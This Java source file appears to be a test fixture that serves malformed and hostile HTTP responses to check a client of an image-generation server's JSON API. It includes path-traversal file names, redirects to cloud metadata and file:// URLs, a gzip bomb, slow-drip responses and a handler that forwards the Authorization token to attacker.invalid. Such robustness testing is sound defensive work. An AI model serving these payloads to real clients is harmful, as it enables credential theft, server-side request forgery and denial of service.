package studio.atelier.drill.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import java.util.zip.GZIPOutputStream;

/// Answers that no honest engine gives, for calls that expect JSON.
final class Corpus {
    static final String PROMPT = "5b0c46cb-36cc-4f1c-9a4c-6a5ad54a2a10";
    private static final int HUGE = 70 << 20;

    private Corpus() {}

    /// Answers that come at once.
    static List<Garbage> quick() {
        List<Garbage> all = new ArrayList<>(small());
        large(all);
        return all;
    }

    /// Those of them that cost little.
    static List<Garbage> small() {
        List<Garbage> all = new ArrayList<>();
        texts(all);
        names(all);
        transport(all);
        redirects(all);
        return all;
    }

    /// Answers that never come to an end.
    static List<Garbage> slow() {
        return List.of(
                new Garbage("never answers", true, (_, _) -> pause(60_000)),
                new Garbage(
                        "header byte by byte",
                        true,
                        (out, _) -> drip(out, "HTTP/1.1 200 OK\r\nX-A: " + "a".repeat(10_000))),
                new Garbage(
                        "body byte by byte",
                        true,
                        (out, _) -> {
                            Garbage.head(out, 200, "Content-Type: application/octet-stream");
                            drip(out, "{\"a\":\"" + "a".repeat(10_000));
                        }),
                new Garbage(
                        "announces more than it sends, and waits",
                        true,
                        (out, _) -> {
                            Garbage.head(out, 200, "Content-Length: 1000");
                            out.write('{');
                            out.flush();
                            pause(60_000);
                        }));
    }

    private static void texts(List<Garbage> all) {
        for (String text :
                List.of(
                        "",
                        " ",
                        "null",
                        "true",
                        "0",
                        "\"text\"",
                        "[]",
                        "{}",
                        "[[]]",
                        "{\"a\":",
                        "{]",
                        "NaN",
                        "Infinity",
                        "{\"a\":NaN,\"b\":-Infinity}",
                        "{\"number\":" + "9".repeat(2_000) + "}",
                        "{\"number\":1e999999999}",
                        "\uFEFF{}",
                        "{}{}",
                        "\u0000\u0001\u0002",
                        "{\"" + PROMPT + "\":null}",
                        "{\"" + PROMPT + "\":[]}",
                        "{\"" + PROMPT + "\":{}}",
                        "{\"" + PROMPT + "\":{\"outputs\":[1,2],\"status\":\"x\",\"prompt\":7}}",
                        "{\"" + PROMPT + "\":{\"outputs\":{\"9\":{\"images\":{\"filename\":3}}}}}",
                        "{\""
                                + PROMPT
                                + "\":{\"status\":{\"messages\":[[\"execution_error\",[]]]}}}",
                        "{\""
                                + PROMPT
                                + "\":{\"status\":{\"messages\":[[\"execution_error\",{}]]}}}",
                        "{\"queue_running\":[null],\"queue_pending\":[[[]]]}",
                        "{\"queue_running\":{},\"queue_pending\":{}}",
                        "{\"prompt_id\":\"\",\"node_errors\":{}}",
                        "{\"prompt_id\":7}",
                        "{\"prompt_id\":\"\\u0000\"}",
                        "{\"prompt_id\":\"../../etc/passwd\"}",
                        "{\"prompt_id\":\"" + PROMPT + "\",\"node_errors\":{\"3\":{}}}",
                        "{\"prompt_id\":\""
                                + PROMPT
                                + "\",\"node_errors\":{\"3\":{\"errors\":[{}]}}}",
                        "{\"error\":{\"message\":\"\\u0000\\u202e\"},\"node_errors\":[]}",
                        "{\"cancelled\":\"maybe\"}",
                        "{\"name\":\"../../../etc/passwd\",\"subfolder\":\"/etc\"}",
                        "{\"name\":\"\\u0000\"}")) {
            for (int status : new int[] {200, 400}) {
                all.add(
                        Garbage.body(
                                status + " " + shortened(text),
                                status,
                                "application/json",
                                text.getBytes(StandardCharsets.UTF_8)));
            }
        }
        for (int status :
                new int[] {
                    200, 204, 206, 400, 401, 403, 404, 405, 408, 413, 418, 429, 500, 502, 503, 504,
                    524, 599, 999
                }) {
            all.add(
                    Garbage.body(
                            "web page with " + status,
                            status,
                            "text/html",
                            "<!doctype html><title>Sign in</title>"
                                    .getBytes(StandardCharsets.UTF_8)));
        }
    }

    private static void names(List<Garbage> all) {
        for (String name :
                List.of(
                        "../../../outside.png",
                        "/etc/outside.png",
                        "..\\\\..\\\\outside.png",
                        "C:\\\\Windows\\\\outside.png",
                        "\\\\\\\\server\\\\share\\\\outside.png",
                        "CON.png",
                        "outside.png\\u0000.txt",
                        "~/outside.png",
                        "file:///etc/passwd.png",
                        "a%2f..%2f..%2foutside.png",
                        "n".repeat(4_096) + ".png",
                        ".png",
                        "\\u202egnp.exe.png",
                        "line\\nbreak.png")) {
            all.add(Garbage.json("name " + shortened(name), history(output(name))));
        }
        all.add(
                Garbage.json(
                        "subfolder outside",
                        history(
                                "{\"filename\":\"a.png\",\"subfolder\":\"../../..\",\"type\":\"output\"}")));
    }

    private static void large(List<Garbage> all) {
        all.add(Garbage.json("100,000 deep", "[".repeat(100_000) + "]".repeat(100_000)));
        all.add(Garbage.json("100,000 objects deep", "{\"a\":".repeat(100_000)));
        all.add(
                Garbage.json(
                        "a million outputs",
                        history(output("a.png") + ",".concat(output("b.png")).repeat(1_000_000))));
        all.add(Garbage.json("a million keys", keys(1_000_000)));
        all.add(Garbage.json("twenty million small lists", "[[]" + ",[]".repeat(20_000_000) + "]"));
        all.add(Garbage.json("a text of 60 MB", "{\"error\":\"" + "x".repeat(60 << 20) + "\"}"));
        all.add(
                new Garbage(
                        "endless",
                        false,
                        (out, _) -> {
                            Garbage.head(out, 200, "Content-Type: application/json");
                            byte[] block =
                                    "[1,2,3,4,5,6,7,8,"
                                            .repeat(4_096)
                                            .getBytes(StandardCharsets.UTF_8);
                            for (int sent = 0; sent < HUGE; sent += block.length) {
                                out.write(block);
                            }
                        }));
        byte[] bomb = gzip(200 << 20);
        all.add(
                new Garbage(
                        "gzip bomb",
                        false,
                        (out, _) -> {
                            Garbage.head(
                                    out,
                                    200,
                                    "Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: "
                                            + bomb.length);
                            out.write(bomb);
                        }));
        all.add(
                Garbage.raw(
                        "a header of 2 MB",
                        "HTTP/1.1 200 OK\r\nX-A: " + "a".repeat(2 << 20) + "\r\n\r\n{}"));
    }

    private static void transport(List<Garbage> all) {
        all.add(Garbage.raw("nothing at all", ""));
        all.add(Garbage.raw("not HTTP", "SSH-2.0-OpenSSH_9.2\r\n"));
        all.add(Garbage.raw("no status", "HTTP/1.1 \r\n\r\n"));
        all.add(Garbage.raw("wrong version", "HTTP/7.7 200 OK\r\n\r\n{}"));
        all.add(Garbage.raw("negative length", "HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n{}"));
        all.add(Garbage.raw("length too long", "HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{}"));
        all.add(Garbage.raw("length too short", "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n{}"));
        all.add(
                Garbage.raw(
                        "length of 9 EB",
                        "HTTP/1.1 200 OK\r\nContent-Length: 9223372036854775807\r\n\r\n{}"));
        all.add(
                Garbage.raw(
                        "two lengths",
                        "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 9\r\n\r\n{}"));
        all.add(
                Garbage.raw(
                        "bad chunks",
                        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n"));
        all.add(
                Garbage.raw(
                        "huge chunk",
                        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n7fffffffffffffff\r\n{}"));
        all.add(
                Garbage.raw(
                        "cut chunks",
                        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n{"));
        all.add(
                Garbage.raw(
                        "not gzip",
                        "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 2\r\n\r\n{}"));
        all.add(
                Garbage.raw(
                        "bad type",
                        "HTTP/1.1 200 OK\r\nContent-Type: \u0000;;;=\r\nContent-Length: 2\r\n\r\n{}"));
        all.add(
                Garbage.raw(
                        "bad headers",
                        "HTTP/1.1 200 OK\r\n: :\r\nno colon\r\nContent-Length: 2\r\n\r\n{}"));
        all.add(
                Garbage.raw(
                        "switches protocols",
                        "HTTP/1.1 101 Switching\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n"));
        all.add(
                Garbage.raw(
                        "asks for a login",
                        "HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm=\"a\"\r\nContent-Length: 0\r\n\r\n"));
        all.add(
                Garbage.raw(
                        "asks for a proxy login",
                        "HTTP/1.1 407 No\r\nProxy-Authenticate: Basic realm=\"a\"\r\nContent-Length: 0\r\n\r\n"));
        all.add(Garbage.raw("a hundred continues", "HTTP/1.1 100 Continue\r\n\r\n".repeat(100)));
        all.add(
                new Garbage(
                        "echoes the request",
                        false,
                        (out, asked) ->
                                Garbage.answer(
                                        out,
                                        500,
                                        "text/plain",
                                        asked.getBytes(StandardCharsets.UTF_8))));
        all.add(
                new Garbage(
                        "echoes the request as JSON",
                        false,
                        (out, asked) ->
                                Garbage.answer(
                                        out,
                                        400,
                                        "application/json",
                                        ("{\"error\":{\"message\":\""
                                                        + asked.replace("\r\n", " ")
                                                        + "\"}}")
                                                .getBytes(StandardCharsets.UTF_8))));
        all.add(
                new Garbage(
                        "echoes the request as success",
                        false,
                        (out, asked) ->
                                Garbage.answer(
                                        out,
                                        200,
                                        "text/plain",
                                        asked.getBytes(StandardCharsets.UTF_8))));
        all.add(
                new Garbage(
                        "echoes in its status line",
                        false,
                        (out, asked) ->
                                out.write(
                                        ("HTTP/1.1 xyz "
                                                        + asked.lines()
                                                                .filter(
                                                                        line ->
                                                                                line.startsWith(
                                                                                        "Authorization"))
                                                                .findFirst()
                                                                .orElse("")
                                                        + "\r\n\r\n")
                                                .getBytes(StandardCharsets.ISO_8859_1))));
    }

    private static void redirects(List<Garbage> all) {
        for (String target :
                List.of(
                        "file:///etc/passwd",
                        "http://169.254.169.254/latest/meta-data/",
                        "http://localhost:1/",
                        "http://[::1]:1/",
                        "http://10.255.255.1/",
                        "//attacker.invalid/",
                        "http://user:pass@attacker.invalid/?token=1",
                        "javascript:alert(1)",
                        "/",
                        "/system_stats",
                        "\u0000")) {
            for (int status : new int[] {301, 302, 303, 307, 308}) {
                all.add(
                        Garbage.raw(
                                status + " to " + target,
                                "HTTP/1.1 "
                                        + status
                                        + " Moved\r\nLocation: "
                                        + target
                                        + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"));
            }
        }
        all.add(
                new Garbage(
                        "redirect with the secret",
                        false,
                        (out, asked) -> {
                            String secret =
                                    asked.lines()
                                            .filter(line -> line.startsWith("Authorization"))
                                            .findFirst()
                                            .orElse("")
                                            .replaceAll(".* ", "");
                            Garbage.head(out, 302, "Location: http://attacker.invalid/" + secret);
                        }));
    }

    static String history(String outputs) {
        return "{\""
                + PROMPT
                + "\":{\"prompt\":[0,\"p\",{},{},[\"9\"]],\"outputs\":{\"9\":{\"images\":["
                + outputs
                + "]}},\"status\":{\"status_str\":\"success\",\"completed\":true,\"messages\":[]}}}";
    }

    private static String output(String name) {
        return "{\"filename\":\"" + name + "\",\"subfolder\":\"\",\"type\":\"output\"}";
    }

    private static String keys(int count) {
        var text = new StringBuilder("{\"a\":0");
        for (int i = 0; i < count; i++) {
            text.append(",\"k").append(i).append("\":").append(i);
        }
        return text.append('}').toString();
    }

    private static byte[] gzip(int length) {
        var bytes = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(bytes)) {
            byte[] block = new byte[1 << 20];
            for (int written = 0; written < length; written += block.length) {
                gzip.write(block);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static void drip(OutputStream out, String text) throws IOException {
        for (byte b : text.getBytes(StandardCharsets.ISO_8859_1)) {
            out.write(b);
            out.flush();
            pause(20);
        }
    }

    private static void pause(long millis) {
        LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(millis));
    }

    private static String shortened(String text) {
        String line = text.replace('\n', ' ').replace('\0', ' ');
        return line.length() > 60 ? line.substring(0, 60) : line;
    }
}
